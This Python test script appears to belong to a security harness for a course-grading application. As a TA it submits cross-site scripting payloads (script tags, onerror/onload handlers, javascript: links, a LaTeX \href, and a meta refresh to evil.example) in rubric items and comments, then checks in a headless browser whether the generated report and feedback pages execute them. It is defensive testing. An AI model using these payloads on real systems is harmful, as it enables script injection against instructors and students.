"""What the workbench writes for the instructor and the students: after TAs grade hostile answers
with hostile rubric items, comments and regrade reasons (HTML, Markdown javascript: links,
LaTeX \\href), `grader review OUT gradebook` writes report.html (Written answers, Regrades) and
feedback/<id>.html / .md. The instructor opens report.html from disk, students open their
feedback page: any script, on* handler, javascript: link, iframe or meta refresh there is a win."""
import glob, subprocess
from _lib import *

P = ('<script>window.__pwn=60</script><img src=x onerror="window.__pwn=61"> [l](javascript:window.__pwn=62) '
     '$\\href{javascript:window.__pwn=63}{m}$ <meta http-equiv="refresh" content="0;url=http://evil.example/"> '
     '</textarea><svg onload=window.__pwn=64>')
s = login("gb-ta")
wp = written_part(s)
ap = autograded_part(s)
t = s.get(BASE + "/part/%d" % wp).text
post(s, "/part/%d/items" % wp, {"csrf": csrf(t), "points": "0.5", "text": "GB " + P})
for aid in answers(s, wp):
    st = answer_state(s, aid)
    items = re.findall(r'name="item" value="(\d+)"', st["html"])
    post(s, "/answer/%d" % aid, {"csrf": st["csrf"], "version": st["version"], "item": items[-1:], "comment": "GB " + P})
for gid in answers(s, ap)[:6]:
    st = answer_state(s, gid)
    post(s, "/answer/%d" % gid, {"csrf": st["csrf"], "version": st["version"], "points": "0", "comment": "GB " + P})
g = subprocess.run(["grader", "review", OUT, "gradebook"], capture_output=True, text=True)
if g.returncode != 0:
    failed("(inconclusive) gradebook failed: %s" % g.stderr[-300:])
files = [OUT + "/report.html"] + sorted(glob.glob(OUT + "/feedback/*.html"))
from playwright.sync_api import sync_playwright
found = []
with sync_playwright() as p:
    br = p.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
    page = br.new_page()
    page.on("dialog", lambda d: (found.append("dialog " + d.message), d.dismiss()))
    for f in files:
        try:
            page.goto("file://" + f, wait_until="load", timeout=60000)
            page.wait_for_timeout(200)
            res = page.evaluate(SCAN_JS)
        except Exception as e:
            found.append("%s: %s" % (f, str(e)[:100]))
            continue
        name = f.rsplit("/", 1)[1]
        if res["pwn"] is not None:
            found.append("%s: script ran (__pwn=%r)" % (name, res["pwn"]))
        if not res["url"].startswith("file://"):
            found.append("%s: navigated to %s" % (name, res["url"]))
        for b in set(res["bad"]):
            if "javascript" in b or b.endswith("]") and "[on" in b or b in ("iframe", "meta http-equiv", "object", "embed", "base"):
                found.append("%s: %s" % (name, b))
    br.close()
raw = open(OUT + "/report.html", encoding="utf-8").read()
if "GB " not in raw and not any("GB " in open(f, encoding="utf-8").read() for f in files[1:]):
    found.append("(note: the TA's text is not in the outputs at all)")
real = [x for x in found if not x.startswith("(note")]
if real:
    worked("; ".join(sorted(set(real))[:10]))
failed("report.html and %d feedback pages: nothing ran, no dangerous markup %s" % (len(files) - 1, " ".join(found)))
